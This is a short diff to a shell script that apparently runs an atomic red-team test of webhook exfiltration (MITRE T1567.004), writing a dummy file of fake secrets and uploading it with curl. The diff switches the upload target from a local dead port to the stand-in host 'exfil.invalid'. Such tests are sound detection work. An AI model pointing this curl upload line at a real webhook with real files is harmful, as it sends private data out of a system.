@@ -6,7 +6,7 @@ W="${2:?usage: $0 run|cleanup DIR}"
 cd "$W" || exit 1
 run() {
     echo "secrets, api keys, passwords - T1567.004 atomic test" > "$W/T1567.004_loot.txt"
-    curl -s -F "file=@$W/T1567.004_loot.txt" -m 3 "https://127.0.0.1:9/api/webhooks/000/atomic"
+    curl -s -F "file=@$W/T1567.004_loot.txt" -m 3 "https://exfil.invalid/api/webhooks/000/atomic"
 }
 cleanup() {
     :
